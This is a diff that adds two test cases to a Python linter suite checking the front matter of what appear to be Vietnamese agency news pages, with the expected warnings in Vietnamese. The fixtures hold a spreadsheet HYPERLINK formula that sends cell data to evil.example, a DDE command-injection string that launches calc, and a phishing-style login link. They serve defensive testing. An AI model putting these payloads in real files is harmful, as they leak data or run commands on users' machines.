@@ -612,4 +612,29 @@ CASES: tuple[Case, ...] = (
             'agencies/ha-noi/tin-tuc/dinh-nghia.md:5: lỗi [markdown-too-deep] Danh sách định nghĩa bắt đầu ở dòng này có hơn 100 dòng bắt đầu bằng ": "; hãy chia thành nhiều danh sách bằng dòng trống.',
         ),
     ),
+    # 14. Text shown as written: spreadsheet formulas and markup in front matter.
+    Case(
+        "csv-formula",
+        text(
+            "agencies/nghe-an/tin-tuc/cong-thuc.md",
+            '---\ntitle: \'=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")\'\n'
+            "date: 2026-11-20\ntags: [\"+cmd|' /C calc'!A0\"]\n---\nNội dung.\n",
+        ),
+        (
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [formula-like-text] Trường "title" (Tiêu đề) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
+            'agencies/nghe-an/tin-tuc/cong-thuc.md:4: cảnh báo [formula-like-text] Trường "tags" (Từ khóa) bắt đầu bằng =, +, - hoặc @, như một công thức bảng tính; trong tệp dữ liệu mở (CSV) nó được ghi thành chữ có dấu \' ở đầu. Bỏ ký tự đó ở đầu nếu không cần (looks like a spreadsheet formula).',
+        ),
+    ),
+    Case(
+        "markdown-in-title",
+        text(
+            "agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md",
+            "---\ntitle: '**Khẩn** [đăng nhập](https://evil.example/dang-nhap) @bo-tu-phap'\n"
+            "date: 2026-11-20\n---\nNội dung.\n",
+        ),
+        (
+            'agencies/nghe-an/tin-tuc/tieu-de-dinh-dang.md:2: cảnh báo [markup-in-plain-text] Trường "title" (Tiêu đề) là chữ thường, không định dạng, nhưng có chữ đậm hay gạch ngang kiểu Markdown, liên kết kiểu Markdown [chữ](địa chỉ), tên tài khoản @…, địa chỉ web: trang sẽ hiện nguyên các ký tự này. Viết chữ thường, đưa liên kết và định dạng vào phần nội dung (markup shown as written).',
+        ),
+    ),
 )
